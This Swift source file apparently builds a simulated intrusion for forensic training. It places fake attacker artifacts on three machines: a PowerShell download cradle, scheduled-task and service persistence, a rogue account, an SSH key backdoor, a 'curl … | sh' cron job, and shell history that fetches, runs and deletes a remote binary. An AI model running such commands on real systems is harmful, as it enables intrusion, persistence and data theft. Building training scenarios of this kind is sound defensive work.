// SPDX-License-Identifier: Apache-2.0

/// What the intruder left behind, in the order in which it happened.
///
/// A clerk opens a delivery note from a mail (ws-finance-07); its macro starts PowerShell, which fetches a program that
/// calls itself an Edge service. It asks 198.51.100.23 for orders, listens on port 8531 and survives through a task.
/// With a backup account's password it goes on to the file server (srv-files-01), packs the finance share there, and
/// from there to the build host (build-01), where a key and a cron job wait for the next visit.
enum Intrusion {
    static let controller = "198.51.100.23"
    static let controllerName = "cdn-telemetry.example.net"
    static let implant = #"C:\ProgramData\EdgeTelemetry\edgeupdsvc.exe"#

    /// The macro, the beacon and its scheduled task on the clerk's workstation.
    static func reachWorkstation(_ machine: inout Machine, _ endpoint: Endpoint, at now: Instant) {
        let opened = now.before(.hours(26))
        let user = #"CORP\m.okafor"#
        let office = #"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"#
        let note =
            #"C:\Users\m.okafor\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\K2T9QX4B\Delivery_Note_4471.docm"#
        machine.processes += [
            Machine.Process(
                pid: 6120,
                parent: 5584,
                name: "WINWORD.EXE",
                path: office,
                commandLine: "\"\(office)\" /n \"\(note)\"",
                user: user,
                started: opened,
                signer: "Microsoft Corporation",
                memory: 141_000_000
            ),
            Machine.Process(
                pid: 6388,
                parent: 6120,
                name: "edgeupdsvc.exe",
                path: implant,
                commandLine: implant + " --channel stable --resume",
                user: user,
                started: opened.after(.seconds(37)),
                elevated: true,
                memory: 23_400_000
            ),
        ]
        machine.sockets += [
            socket(6388, "ESTAB", endpoint.address, 50944, controller, 443, opened.after(.seconds(39))),
            socket(6388, "LISTEN", "0.0.0.0", 8531, "0.0.0.0", 0, opened.after(.seconds(40))),
        ]
        machine.tasks.append(
            Machine.ScheduledTask(
                path: #"C:\Windows\System32\Tasks\EdgeTelemetryRefresh"#,
                command: implant,
                arguments: "--channel stable --resume",
                user: "S-1-5-18",
                runLevel: "HighestAvailable",
                registered: opened.after(.minutes(2)),
                interval: "PT15M"
            )
        )
        leaveTraces(&machine, opened: opened)
    }

    private static func leaveTraces(_ machine: inout Machine, opened: Instant) {
        machine.resolvedNames.append(.init(name: controllerName, record: controller, timeToLive: 60))
        machine.scriptBlocks.append(
            Machine.ScriptBlock(
                at: opened.after(.seconds(12)),
                text:
                    "$w = New-Object Net.WebClient; $w.DownloadFile('https://\(controllerName)/e/4471', '\(implant)');"
                    + " Start-Process '\(implant)' '--channel stable --resume'"
            )
        )
        machine.executions += [
            Machine.Execution(
                path: #"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"#,
                size: 452_000,
                runs: [opened.after(.seconds(11))]
            ),
            Machine.Execution(path: implant, size: 1_873_408, runs: [opened.after(.seconds(37))]),
        ]
    }

    /// The implant as a service, a new account and a packed share on the file server.
    static func reachFileServer(_ machine: inout Machine, _ endpoint: Endpoint, at now: Instant) {
        let arrived = now.before(.hours(20))
        machine.logons += [
            Machine.Logon(at: arrived, user: "svc-backup", domain: "CORP", source: "192.0.2.57", method: "10"),
            Machine.Logon(
                at: arrived.before(.minutes(3)),
                user: "administrator",
                domain: "CORP",
                source: "192.0.2.57",
                method: "10",
                succeeded: false
            ),
        ]
        machine.processes += [
            Machine.Process(
                pid: 7316,
                parent: 716,
                name: "edgeupdsvc.exe",
                path: implant,
                commandLine: implant + " --service",
                user: #"NT AUTHORITY\SYSTEM"#,
                started: arrived.after(.minutes(6)),
                elevated: true,
                memory: 24_100_000
            ),
            Machine.Process(
                pid: 7904,
                parent: 7316,
                name: "7z.exe",
                path: #"C:\PerfLogs\7z.exe"#,
                commandLine: #"C:\PerfLogs\7z.exe a -p -v500m C:\PerfLogs\q3.7z D:\Shares\Finance"#,
                user: #"NT AUTHORITY\SYSTEM"#,
                started: now.before(.minutes(55)),
                elevated: true,
                memory: 310_000_000
            ),
        ]
        machine.services.append(
            Machine.Service(
                name: "EdgeTelemetrySvc",
                displayName: "Microsoft Edge Telemetry Service",
                path: implant + " --service",
                user: "LocalSystem",
                running: true,
                pid: 7316,
                startMode: "Auto",
                created: arrived.after(.minutes(5))
            )
        )
        machine.sockets += [
            socket(7316, "ESTAB", endpoint.address, 51830, controller, 443, arrived.after(.minutes(6))),
            socket(4, "ESTAB", endpoint.address, 445, "192.0.2.57", 50990, arrived),
        ]
        machine.accounts.append(
            Machine.Account(
                name: "support_adm",
                id: 1009,
                group: 513,
                description: "Remote support",
                home: #"C:\Users\support_adm"#,
                sid: "\(endpoint.securityDomain)-1009",
                lastLogin: arrived.after(.minutes(20))
            )
        )
        machine.executions.append(
            Machine.Execution(path: #"C:\PerfLogs\7z.exe"#, size: 1_320_000, runs: [now.before(.minutes(55))])
        )
    }

    /// A key, a cron job and a deleted program that still runs on the build host.
    static func reachBuildHost(_ machine: inout Machine, _ endpoint: Endpoint, at now: Instant) {
        let arrived = now.before(.hours(14))
        var keys = Invented("key ops@relay")
        machine.logons += [
            Machine.Logon(
                at: arrived.before(.minutes(2)),
                user: "deploy",
                source: "192.0.2.20",
                method: "password",
                succeeded: false
            ),
            Machine.Logon(at: arrived, user: "deploy", source: "192.0.2.20", method: "password"),
        ]
        machine.accounts.append(
            Machine.Account(
                name: "deploy",
                id: 1001,
                group: 1001,
                description: "Deployment,,,",
                home: "/home/deploy",
                shell: "/bin/bash",
                lastLogin: arrived
            )
        )
        machine.authorizedKeys.append(
            Machine.AuthorizedKey(
                path: "/home/deploy/.ssh/authorized_keys",
                type: "ssh-rsa",
                key: "AAAAB3NzaC1yc2EAAAADAQABAAABAQ" + keys.base64(342),
                comment: "ops@relay"
            )
        )
        machine.cronJobs.append(
            Machine.CronJob(
                path: "/etc/cron.d/.sysstat-cache",
                user: "deploy",
                schedule: "*/10 * * * *",
                command: "curl -fsk https://\(controller)/s/b01 | sh"
            )
        )
        machine.processes.append(
            Machine.Process(
                pid: 20917,
                parent: 1,
                name: "kworkerd",
                path: "/dev/shm/.cache/kworkerd (deleted)",
                commandLine: "[kworker/u8:3]",
                user: "deploy",
                started: arrived.after(.minutes(4)),
                deleted: true,
                memory: 9_700_000
            )
        )
        machine.sockets.append(
            socket(20917, "ESTAB", endpoint.address, 43110, controller, 8443, arrived.after(.minutes(4)))
        )
        machine.shellHistory.append(
            Machine.ShellHistory(
                path: "/home/deploy/.bash_history",
                lines: [
                    "id; uname -a; cat /etc/passwd", "mkdir -p /dev/shm/.cache && cd /dev/shm/.cache",
                    "curl -fsko kworkerd https://\(controller)/b/kw && chmod +x kworkerd && ./kworkerd && rm kworkerd",
                    "echo 'ssh-rsa AAAAB3Nz... ops@relay' >> ~/.ssh/authorized_keys", "unset HISTFILE",
                ]
            )
        )
    }

    private static func socket(
        _ pid: Int,
        _ status: String,
        _ local: String,
        _ localPort: Int,
        _ remote: String,
        _ remotePort: Int,
        _ opened: Instant
    ) -> Machine.Socket {
        Machine.Socket(
            pid: pid,
            status: status,
            local: local,
            localPort: localPort,
            remote: remote,
            remotePort: remotePort,
            opened: opened
        )
    }
}
